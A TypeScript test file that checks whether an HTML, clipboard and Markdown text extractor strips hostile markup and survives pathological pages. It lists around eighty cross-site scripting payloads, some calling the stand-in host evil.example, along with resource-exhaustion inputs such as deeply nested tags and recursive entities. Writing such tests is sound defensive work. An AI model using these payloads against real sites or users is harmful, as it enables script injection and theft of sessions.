import { describe, expect, it } from 'vitest';

import { AppError } from '#core/model/app-error';
import type { Extraction } from '#core/model/extraction';
import { readClipboardHtml } from '#core/extraction/read-clipboard-html';
import { readHtml } from '#core/extraction/read-html';
import { readMarkdown } from '#core/extraction/read-markdown';

/** Each would run `hack` or ask for evil.example in a reader that kept markup or targets. */
const payloads: readonly string[] = [
  '<script>hack()</script>',
  '<script src=//evil.example/x.js></script>',
  '<ScRiPt>hack()</sCrIpT>',
  '<script/x>hack()</script\n>',
  '<img src=x onerror=hack()>',
  '<img src="javascript:hack()">',
  '<img src=x:x onerror=hack() alt="logo.png">',
  '<image src=x onerror=hack()>',
  '<svg onload=hack()>',
  '<svg><script>hack()</script></svg>',
  '<svg><animate onbegin=hack() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hack()"><text>hack()</text></a></svg>',
  '<svg><style><img src=x onerror=hack()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=hack()>">',
  '<svg><foreignObject><iframe srcdoc="<script>hack()</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,hack()"></use></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hack()>',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=hack()></style></math>',
  '<math><annotation-xml encoding="text/html"><style></style><img src=x onerror=hack()></annotation-xml></math>',
  '<math href="javascript:hack()">x</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hack() src>">',
  '<noscript><p title="</noscript><img src=x onerror=hack()>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=hack()>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=hack()>"></noframes>',
  '<textarea><img title="</textarea><img src onerror=hack()>"></textarea>',
  '<iframe src="javascript:hack()"></iframe>',
  '<iframe srcdoc="&lt;script&gt;hack()&lt;/script&gt;">hack()</iframe>',
  '<object data="javascript:hack()">hack()</object>',
  '<object><param name="src" value="//evil.example"></object>',
  '<embed src="javascript:hack()">',
  '<applet code="hack()">hack()</applet>',
  '<frameset><frame src="javascript:hack()"></frameset>',
  '<a href="javascript:hack()">連結</a>',
  '<a href=" &#14; javascript:hack()">連結</a>',
  '<a href="jav&#x09;ascript:hack()">連結</a>',
  '<a href="java\0script:hack()">連結</a>',
  '<a href="&#106;&#97;vascript:hack()">連結</a>',
  '<a href="vbscript:hack()">連結</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">連結</a>',
  '<a href="file:///etc/passwd">連結</a>',
  '<a href="//evil.example" onclick=hack() onmouseover="hack()">連結</a>',
  '<a ping="//evil.example" href="#">連結</a>',
  '<base href="javascript:hack()//">',
  '<meta http-equiv="refresh" content="0;url=javascript:hack()">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<meta property="og:url" content="javascript:hack()">',
  '<link rel="canonical" href="javascript:hack()">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel=prefetch href="//evil.example">',
  '<style>@import "//evil.example";*{background:url(javascript:hack())}</style>',
  '<style><!--</style><script>hack()//--></script>',
  '<div style="background:url(javascript:hack())">塊</div>',
  '<div style="width:expression(hack())">塊</div>',
  '<body onload=hack()>',
  '<body background="javascript:hack()">',
  '<table background="javascript:hack()"><td>格</td></table>',
  '<input autofocus onfocus=hack() value="hack()">',
  '<select onfocus=hack() autofocus><option>hack()</option></select>',
  '<button formaction="javascript:hack()">hack()</button>',
  '<form action="javascript:hack()"><input type=submit value="hack()"></form>',
  '<video src=x onerror=hack()><source onerror=hack()></video>',
  '<audio src=x onerror=hack()>hack()</audio>',
  '<details open ontoggle=hack()><summary>摘要</summary></details>',
  '<marquee onstart=hack()>走</marquee>',
  '<template><script>hack()</script></template>',
  '<div><template shadowrootmode=open><script>hack()</script></template></div>',
  '<dialog open onclose=hack()>hack()</dialog>',
  '<xml><script>hack()</script></xml>',
  '<?xml-stylesheet href="javascript:hack()"?>',
  '<!--[if gte IE 4]><script>hack()</script><![endif]-->',
  '<!--><script>hack()</script>-->',
  '<!-- --!><script>hack()</script> -->',
  '<![CDATA[<script>hack()</script>]]>'.replace('<script>hack()</script>', '<script/src=hack()>'),
  '<ruby onclick=hack()>戰<rt onclick=hack()>zhàn<script>hack()</script></rt></ruby>',
  '<ruby><rp><script>hack()</script></rp></ruby>',
  '<q cite="javascript:hack()">引</q>',
  '<blockquote cite="javascript:hack()">引</blockquote>',
  '<ol type="javascript:hack()" start="hack()"><li value="hack()">項</ol>',
  '<ol style="list-style:url(javascript:hack())"><li>項</ol>',
  '<td headers="hack()" colspan="1e9" rowspan="-1">格</td>',
  '<h1 id=location name=cookie>題</h1><img name=body alt="logo"><form id=attributes>',
];

/** Everything that leaves the extraction as text, with what a reader of the page sees taken as it is. */
function everything({ text, structure, stated, address, cuts }: Extraction): string {
  return JSON.stringify([text, structure, stated, address, cuts]);
}

const forbidden =
  /hack\(|evil\.example|javascript|vbscript|data:|file:|onerror|onload|onclick|<[a-z/!?]/iu;

describe('a hostile page', () => {
  it('comes in many kinds', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(60);
  });

  it.each(payloads)('gives text alone: %s', (payload) => {
    for (const html of [
      payload,
      `<p>前</p>${payload}`,
      `<table><tr><td>${payload}`,
      `<ul><li>${payload}</ul>`,
    ]) {
      expect(everything(readHtml(html)), html).not.toMatch(forbidden);
      expect(everything(readClipboardHtml(html)), html).not.toMatch(forbidden);
    }
  });

  it.each(payloads.filter((payload) => !/[\n\0]/u.test(payload)))(
    'gives text alone in Markdown: %s',
    (payload) => {
      expect(
        everything(readMarkdown(`${payload}\n`)).replaceAll('hack()', ''),
        payload,
      ).not.toMatch(
        /evil\.example|javascript:|vbscript:|onerror=|onload=|<(?:script|img|iframe|svg|object)/iu,
      );
    },
  );

  it.each([
    '[鏈](javascript:hack())',
    '[鏈](<javascript:hack()>)',
    '[鏈][1]\n\n[1]: javascript:hack()',
    '![logo](javascript:hack())',
    '![圖片](https://evil.example/x.png)',
    '<javascript:hack()>'.replace('javascript:hack()', 'b onclick=hack()'),
    '# 題 <a href="javascript:hack()">鏈</a>',
    '| a | b |\n|-|-|\n| <img src=x onerror=hack()> | [x](data:text/html,hack()) |',
    '[^1]\n\n[^1]: <script>hack()</script>',
    '[鏈](data:text/html;base64,PHNjcmlwdD4=)',
    '[鏈](vbscript:hack() "hack()")',
  ])('links and pictures of Markdown leave no target: %s', (markdown) => {
    expect(everything(readMarkdown(markdown))).not.toMatch(
      /evil\.example|script:|data:|onerror|onclick|<[a-z]/iu,
    );
  });

  it('shows as text what a browser shows as text, where tags are broken', () => {
    expect(readHtml('<scr<script>ipt>hack()</scr</script>ipt>').text).toBe('ipt>hack()ipt>\n');
    const titled = readHtml('<title><img title="</title><img src onerror=hack()>"></title>');
    expect([titled.text, titled.stated.title]).toEqual(['">\n', '<img title="']);
    expect(readHtml('<img """><script>hack()</script>">').text).toBe('">\n');
    expect(readMarkdown('<img """><script>hack()</script>">').text).not.toContain('script');
  });

  it('shows markup that it writes about as text', () => {
    expect(readHtml('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>').text).toBe(
      '<script>alert(1)</script>\n',
    );
  });
});

describe('a page made to break its reader', () => {
  const attributes = Array.from({ length: 20_000 }, (_, at) => `a${at}`).join(' ');
  const fonts = Array.from({ length: 5000 }, (_, at) => `<font a${at}>`).join('');
  it.each<[string, string]>([
    ['1 MB of open blocks', '<div>'.repeat(200_000)],
    ['open formatting', '<b>'.repeat(100_000)],
    ['formatting that every paragraph repeats', `${fonts}${'<p>x'.repeat(50_000)}`],
    ['entities', '&lt;&#x6230;&amp;'.repeat(20_000)],
    ['an entity without end', `&${'a'.repeat(500_000)}`],
    ['huge attributes', `<p class="${'x '.repeat(250_000)}" style="${'a:b;'.repeat(100_000)}">甲`],
    ['many attributes', `<p ${attributes}>甲`],
    ['nested tables', '<table><tr><td>'.repeat(3000)],
    ['spans', `<table><tr>${'<td colspan=9999 rowspan=9999>甲'.repeat(2000)}`],
    ['nested lists', '<ul><li>甲'.repeat(10_000)],
    ['nested ruby', '<ruby>甲<rt>乙'.repeat(3000)],
    ['raised figures within one another', '<sup>1'.repeat(5000)],
    ['links', '<a href="#x">1'.repeat(10_000)],
    ['headings', '<h1 class=title>甲'.repeat(5000)],
    ['a comment without end', `<!--${'-'.repeat(200_000)}`],
    ['a tag without end', `<p ${'<'.repeat(100_000)}`],
    ['an XHTML page of empty elements', `<html xmlns="x">${'<a/>'.repeat(50_000)}`],
    [
      'doctype declarations, internal subset and all',
      `<!DOCTYPE a [${'<!ENTITY a "&a;&a;">'.repeat(10_000)}]><p>&a;`,
    ],
  ])('ends, or fails as a failure that a user can read: %s', (_name, html) => {
    let result: unknown;
    try {
      result = readHtml(html);
    } catch (error) {
      result = error;
    }
    if (result instanceof Error) expect(result).toBeInstanceOf(AppError);
    else expect((result as Extraction).text.length).toBeLessThanOrEqual(html.length * 2);
  });
});
